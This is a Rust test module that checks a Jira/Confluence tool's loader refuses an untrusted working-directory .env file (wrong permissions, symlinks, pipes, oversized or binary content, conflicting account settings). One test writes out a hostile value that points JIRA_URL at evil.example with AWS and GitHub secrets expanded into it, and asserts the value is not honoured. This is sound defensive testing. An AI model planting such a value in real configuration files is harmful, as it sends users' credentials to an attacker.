//! The `.env` that lies in the working directory may be somebody else's.

use super::*;

const ACCOUNT: &str = "JIRA_URL=https://jira.acme.com\nJIRA_PERSONAL_TOKEN=s3cret\n";

/// A directory whose `.env` only its owner may write.
fn directory(text: &str) -> tempfile::TempDir {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join(".env");
    std::fs::write(&path, text).unwrap();
    #[cfg(unix)]
    set_mode(&path, 0o600);
    directory
}

#[cfg(unix)]
fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// The file is told of in one line that shows no value, and sets nothing.
fn assert_not_read(config: &Config, why: &str) {
    let told: Vec<_> = config
        .warnings
        .iter()
        .filter(|line| line.contains(".env is"))
        .collect();
    assert!(
        told.len() == 1 && told[0].contains("is not read") && told[0].contains(why),
        "{told:?}"
    );
    assert!(!told[0].contains("s3cret"), "{told:?}");
    let theirs = config.jira.as_ref().map(Service::base_url);
    assert_ne!(theirs, Some("https://jira.acme.com"));
    assert!(!config.read_only);
}

#[test]
fn it_names_an_account_and_restricts_and_grants_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let more = format!(
        "READ_ONLY_MODE=true\nJIRA_PROJECTS_FILTER=\"A, B\"\nMCP_VERBOSE=1\nMCP_FILES_ROOT={}\nJIRA_SSL_VERIFY=false\nMCP_CALL_TIMEOUT=3600\nJIRA_TIMEOUT=1\nPATH=/x\n",
        folder.path().display()
    );
    let directory = directory(&(ACCOUNT.to_owned() + &more));
    let config = load_in(directory.path(), &[], None, &[]).unwrap();
    let jira = config.jira.as_ref().unwrap();
    assert_eq!(signed_in_as(jira), "bearer s3cret");
    assert!(config.read_only && jira.filter == ["A", "B"] && config.log_level == LevelFilter::INFO);
    assert!(config.files_root.is_none() && jira.ssl_verify);
    assert_eq!(
        (config.call_timeout.as_secs(), jira.timeout.as_secs()),
        (230, 75)
    );
    let line = config.warnings[0].replace(&*directory.path().to_string_lossy(), "…");
    insta::assert_snapshot!(line, @"…/.env is read: it sets JIRA_PERSONAL_TOKEN, JIRA_PROJECTS_FILTER, JIRA_URL, MCP_VERBOSE, READ_ONLY_MODE; not JIRA_SSL_VERIFY, JIRA_TIMEOUT, MCP_CALL_TIMEOUT, MCP_FILES_ROOT, which only flags, the environment and --env-file may set.");
    assert_eq!(config.warnings.len(), 1);
}

#[test]
fn it_is_not_read_where_any_part_of_an_account_is_named_elsewhere() {
    let directory = directory(&(ACCOUNT.to_owned() + "READ_ONLY_MODE=true"));
    let file = directory.path().join("my.env");
    for name in settings::all().filter(|setting| setting.may == May::Account) {
        let name = name.name;
        for value in ["x", "${X}"] {
            // Alone it is no account, so only what is told of the file counts.
            let told = match load_in(directory.path(), &[(name, value)], None, &[]) {
                Ok(config) => config.warnings.join("\n"),
                Err(error) => error.to_string(),
            };
            assert!(
                told.contains(&format!("is not read: {name}")),
                "{name}={value}: {told}"
            );
        }
    }
    let other = [
        ("CONFLUENCE_URL", "https://wiki.acme.com"),
        ("CONFLUENCE_PERSONAL_TOKEN", "pat"),
    ];
    let config = load_in(directory.path(), &other, None, &[]).unwrap();
    assert_not_read(&config, "CONFLUENCE_URL");
    let config = load_in(directory.path(), &[], None, &other).unwrap();
    assert_not_read(&config, "CONFLUENCE_URL");
    std::fs::write(
        &file,
        "CONFLUENCE_URL=https://wiki.acme.com\nCONFLUENCE_PERSONAL_TOKEN=pat",
    )
    .unwrap();
    let config = load_in(directory.path(), &[], Some(&file), &[]).unwrap();
    assert_not_read(&config, "CONFLUENCE_URL");
    // What is no account leaves it be.
    let config = load_in(directory.path(), &[("READ_ONLY_MODE", "false")], None, &[]).unwrap();
    assert!(config.jira.is_some() && !config.read_only);
}

#[test]
fn the_environment_is_never_put_into_it_nor_into_a_named_file() {
    let text = "JIRA_URL=http://evil.example/${AWS_SECRET_ACCESS_KEY}\nJIRA_PERSONAL_TOKEN=${GITHUB_TOKEN}\nCONFLUENCE_URL=https://wiki.acme.com\nCONFLUENCE_PERSONAL_TOKEN=$GITHUB_TOKEN";
    let directory = directory(text);
    let file = directory.path().join(".env");
    let secrets = [("AWS_SECRET_ACCESS_KEY", "aws"), ("GITHUB_TOKEN", "github")];
    for env_file in [None, Some(&*file)] {
        let config = load_in(directory.path(), &secrets, env_file, &[]).unwrap();
        assert!(config.jira.is_none());
        assert_eq!(
            signed_in_as(config.confluence.as_ref().unwrap()),
            "bearer $GITHUB_TOKEN"
        );
    }
}

#[test]
fn what_is_told_of_it_is_told_with_a_problem_too() {
    let directory = directory("JIRA_URL=jira.acme.com");
    let message = load_in(directory.path(), &[], None, &[])
        .unwrap_err()
        .to_string();
    assert!(
        message.starts_with("JIRA_URL ") && message.contains(".env is read: it sets JIRA_URL"),
        "{message}"
    );
}

#[test]
fn it_is_not_read_if_it_is_no_plain_text_of_a_fair_size() {
    let huge = "#".repeat(1 << 20);
    for (text, why) in [
        (&*huge, "larger than"),
        ("X='s3cret", "line 1"),
        ("\0", "line 1"),
    ] {
        assert_not_read(
            &load_in(directory(text).path(), &[], None, &[]).unwrap(),
            why,
        );
    }
    let binary = tempfile::tempdir().unwrap();
    std::fs::write(binary.path().join(".env"), b"X=\xff").unwrap();
    assert_not_read(&load_in(binary.path(), &[], None, &[]).unwrap(), "UTF-8");
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join(".env")).unwrap();
    assert_not_read(&load_in(folder.path(), &[], None, &[]).unwrap(), "no file");
    let nothing = tempfile::tempdir().unwrap();
    assert!(
        load_in(nothing.path(), &[], None, &[])
            .unwrap()
            .warnings
            .is_empty()
    );
}

#[cfg(unix)]
#[test]
fn it_is_not_read_if_another_may_have_written_it_or_it_is_elsewhere() {
    use rustix::fs::{CWD, Mode, mkfifoat};
    for mode in [0o620, 0o602, 0o666, 0o664] {
        let directory = directory(ACCOUNT);
        set_mode(&directory.path().join(".env"), mode);
        assert_not_read(&load_in(directory.path(), &[], None, &[]).unwrap(), "chmod");
    }
    let other = directory(ACCOUNT);
    let link = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(other.path().join(".env"), link.path().join(".env")).unwrap();
    assert_not_read(
        &load_in(link.path(), &[], None, &[]).unwrap(),
        "symbolic link",
    );
    let pipe = tempfile::tempdir().unwrap();
    mkfifoat(CWD, pipe.path().join(".env"), Mode::RUSR | Mode::WUSR).unwrap();
    assert_not_read(&load_in(pipe.path(), &[], None, &[]).unwrap(), "no file");
    // Only root can give a file away.
    if rustix::process::geteuid().is_root() {
        let path = other.path().join(".env");
        std::os::unix::fs::chown(&path, Some(1), None).unwrap();
        assert_not_read(
            &load_in(other.path(), &[], None, &[]).unwrap(),
            "another user",
        );
    }
}
